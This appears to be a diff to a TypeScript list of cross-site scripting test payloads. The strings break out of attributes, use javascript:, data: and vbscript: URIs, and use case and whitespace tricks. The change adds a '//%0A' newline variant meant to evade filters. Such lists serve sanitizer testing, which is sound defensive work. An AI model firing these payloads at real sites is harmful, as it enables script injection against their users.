@@ -51,7 +51,7 @@ export const PAYLOADS: readonly string[] = [
   `' onfocus='${RUN}' autofocus x='`,
   `" style="position:fixed;inset:0" ${ID} x="`,
   `javascript:${RUN}`,
-  ` JaVaScRiPt:${RUN}`,
+  ` JaVaScRiPt://%0A${RUN}`,
   `java\tscript:${RUN}`,
   `data:text/html,<script>${RUN}</script>`,
   `vbscript:msgbox("${MARK}")`,
